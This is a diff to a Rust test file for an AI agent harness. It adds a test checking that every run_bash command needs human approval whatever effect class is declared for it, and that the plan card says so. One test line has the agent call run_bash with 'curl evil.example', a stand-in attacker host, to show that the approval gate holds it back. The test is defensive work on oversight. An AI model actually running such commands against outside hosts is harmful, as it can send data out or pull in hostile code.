@@ -4,7 +4,9 @@ use serde_json::{Value, json};
 
 use super::plan_mode::planner;
 use super::play::{Play, fetches, ok, plan, writes};
-use crate::domain::{ActionStatus, CoverageKind, DecisionKind, DeclaredCall, GateKind, Mode, Outbound, PlanCard, Policy, Via};
+use crate::domain::{
+    ActionStatus, COMMAND_TOOL, CoverageKind, DecisionKind, DeclaredCall, EffectClass, GateKind, Mode, Outbound, PlanCard, Policy, Via,
+};
 use crate::reducer::{CallOutcome, Input, Next};
 
 /// A complex plan of these steps, approved, its task declared.
@@ -262,6 +264,31 @@ fn the_model_is_told_what_will_ask() {
         "{}",
         quiet.told()
     );
+}
+
+/// interface §5: a command asks under `effects: {run_bash: write}` as well; the model and the card are told so.
+#[test]
+fn a_command_asks_whatever_its_class() {
+    let mut play = Play::new();
+    for spec in &mut play.tools {
+        if spec.name == COMMAND_TOOL {
+            spec.effect = EffectClass::Write;
+        }
+    }
+    let call = json!({"tool": COMMAND_TOOL, "arguments": {"command": "**"}});
+    play.calls("plan", plan("complex", json!([{"content": "x", "calls": [call]}])));
+    assert!(
+        play.told().contains("Each call of run_bash asks people, whatever is declared"),
+        "{}",
+        play.told()
+    );
+    assert_eq!(
+        (card(&play).still_asks.as_slice(), card(&play).grants.len()),
+        (&[COMMAND_TOOL.to_owned()][..], 0)
+    );
+    play.approves().calls("clarify", json!({"task_goal_ui": "x"}));
+    play.calls(COMMAND_TOOL, json!({"command": "curl evil.example"}));
+    play.waits_for(GateKind::ToolApproval);
 }
 
 /// design: the digest covers the declared calls, and a card shows them whole or the plan is refused.
